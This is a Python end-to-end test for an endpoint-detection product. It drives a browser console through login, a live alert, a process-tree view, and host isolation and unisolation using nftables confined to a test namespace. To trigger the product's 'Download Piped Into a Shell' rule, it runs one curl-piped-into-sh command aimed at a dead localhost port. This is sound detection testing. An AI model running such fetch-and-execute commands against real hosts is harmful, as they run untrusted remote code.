"""End to end in a real browser: Debian's chromium (headless, driven by Playwright) against a real
collector with detection, the real eBPF sensor enrolled over mTLS, and the console over HTTPS.

Steps: log in; trigger a detection on this host; see the alert arrive without reloading; open its
process tree; isolate the host and see the state change; unisolate; log out. Isolation is real
nftables, confined to a network namespace the test creates (the sensor's `nft` is a wrapper that
runs inside it), so the machine running the test keeps its network. Screenshots of the page at a
failing step are saved in test-artifacts/.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from aurora.api.server import start_api
from aurora.config import AuroraConfig
from e2e.browser import logged_in_page, need_chromium

pytestmark = [pytest.mark.root, pytest.mark.kernel, pytest.mark.browser, pytest.mark.slow]


def wait_until(cond: Callable[[], Any], timeout: float, what: str) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        got = cond()
        if got:
            return got
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout}s waiting for {what}")
        time.sleep(0.2)


@dataclass
class Stack:
    url: str
    password: str
    sensor_id: str
    store: Any
    netns: str


@pytest.fixture
def netns() -> Iterator[str]:
    if shutil.which("ip") is None or shutil.which("nft") is None:
        pytest.skip("needs iproute2 and nftables")
    name = f"aurora-e2e-{uuid.uuid4().hex[:8]}"
    subprocess.run(["ip", "netns", "add", name], check=True)
    subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
    try:
        yield name
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False)


@pytest.fixture
def stack(tmp_path: Path, netns: str) -> Iterator[Stack]:
    need_chromium()
    try:
        from aurora.collector.server import Collector
        from aurora.collector.tokens import create_token
        from aurora.sensor.agent import Agent
        from aurora.sensor.enrollment import enroll
        from aurora.sensor.linux import LinuxSensor
        from aurora.sensor.linux.sensor import OBJECTS_DIR
    except ImportError as exc:
        pytest.skip(f"a part of the stack is not importable: {exc}")
    if not (Path(OBJECTS_DIR) / "process.bpf.o").exists():
        pytest.skip(f"BPF objects are not built in {OBJECTS_DIR} (run `make bpf`)")

    state = tmp_path / "collector"
    config = AuroraConfig.model_validate(
        {
            "collector": {"state_dir": str(state), "listen": "127.0.0.1:0"},
            "detection": {"enabled": True, "suppression_window_s": 0},
            "api": {"listen": "127.0.0.1:0"},
        }
    )
    collector = Collector(config)
    collector.start()
    assert collector.store is not None and collector.detection is not None
    # What `aurora collector` does: first admin (password printed once), then the API.
    server, password = start_api(
        collector.store, config, state, engine=collector.detection.engine, bus=collector.bus
    )
    assert password is not None

    # The sensor's nftables run inside the namespace: isolation is real, but confined.
    nft = tmp_path / "nft-in-netns"
    nft.write_text(f'#!/bin/sh\nexec ip netns exec {netns} nft "$@"\n')
    nft.chmod(0o755)
    sensor_dir = tmp_path / "sensor"
    token = create_token(collector.store, 3600, 1)
    ident = enroll(f"127.0.0.1:{collector.port}", token.token, collector.ca_fingerprint, sensor_dir)
    sensor_config = AuroraConfig.model_validate(
        {
            "sensor": {
                "state_dir": str(sensor_dir),
                "linux_families": ["process"],
                "heartbeat_interval_s": 0.5,
                "batch_max_delay_ms": 50,
            },
            "response": {"nft_path": str(nft)},
        }
    )
    agent = Agent(sensor_config, LinuxSensor(sensor_config.sensor))
    runner = threading.Thread(target=agent.run, daemon=True)
    runner.start()
    try:
        wait_until(
            lambda: (h := collector.store.get_host(ident.sensor_id)) and h.connected,  # type: ignore[union-attr]
            30,
            "the sensor to connect",
        )
        yield Stack(server.url, password, ident.sensor_id, collector.store, netns)
    finally:
        agent.stop()
        runner.join(20)
        server.stop()
        collector.stop()


def _alert_for(store: Any, marker: str) -> int | None:
    for alert in store.list_alerts(limit=200):
        if marker in str(alert.finding.get("evidences")):
            return int(alert.alert_id)
    return None


def test_analyst_flow_in_a_real_browser(stack: Stack) -> None:
    from playwright.sync_api import expect

    step = "1-login"
    # The collector CA is private to this test; the browser accepts any certificate.
    with logged_in_page(
        stack.url, "admin", "console-e2e", password=stack.password, timeout_ms=30_000
    ) as page:
        page.on("dialog", lambda dialog: dialog.accept())
        try:
            expect(page.locator("#live-status.on")).to_be_visible()
            page.evaluate("window.__auroraNoReload = true")

            step = "2-trigger"
            marker = f"aurora-e2e-{uuid.uuid4().hex[:12]}"
            # Matches Aurora's "Download Piped Into a Shell" rule; curl fails fast on port 9.
            subprocess.run(
                ["sh", "-c", f"curl -s -m 1 http://127.0.0.1:9/{marker} | sh"],
                check=False,
                timeout=30,
                env={**os.environ, "PATH": "/usr/bin:/bin"},
            )
            alert_id = wait_until(lambda: _alert_for(stack.store, marker), 30, "the alert")

            step = "3-alert-arrives-live"
            row = page.locator(f'#alerts-table tr[data-alert-id="{alert_id}"]')
            expect(row).to_be_visible()
            expect(row).to_contain_text("Download Piped Into a Shell")
            assert page.evaluate("window.__auroraNoReload") is True, "the page was reloaded"

            step = "4-process-tree"
            row.locator("a.alert-link").click()
            expect(page).to_have_url(f"{stack.url}/alerts/{alert_id}")
            # The rule fires on `sh -c "curl ...| sh"` or on the `sh` it pipes into (by its
            # parent's command line): either way the marker is in the tree around the focus.
            expect(page.locator("#process-tree .node.focus")).to_be_visible()
            expect(page.locator("#process-tree .node.ancestor").first).to_be_visible()
            expect(page.locator("#process-tree")).to_contain_text(marker)

            step = "5-isolate"
            page.goto(f"{stack.url}/hosts/{stack.sensor_id}")
            expect(page.locator("#fact-isolation")).to_have_text("none")
            page.click("#act-isolate")
            expect(page.locator("#fact-isolation")).to_have_text("isolated")
            expect(page.locator("#host-actions .state-succeeded").first).to_be_visible()
            ruleset = subprocess.run(
                ["ip", "netns", "exec", stack.netns, "nft", "list", "ruleset"],
                capture_output=True,
                text=True,
                check=True,
            ).stdout
            assert "drop" in ruleset, ruleset

            step = "6-unisolate"
            page.click("#act-unisolate")
            expect(page.locator("#fact-isolation")).to_have_text("none")

            step = "7-logout"
            page.click("#logout")
            expect(page).to_have_url(stack.url + "/login")
            page.goto(stack.url + "/alerts")
            expect(page).to_have_url(f"{stack.url}/login?next=/alerts")

            step = "8-login-returns-to-next"
            page.fill("#login-name", "admin")
            page.fill("#login-password", stack.password)
            page.click("#login-submit")
            expect(page).to_have_url(stack.url + "/alerts")
        except BaseException as exc:
            exc.add_note(f"failed at step {step} (screenshot: test-artifacts/console-e2e.png)")
            raise
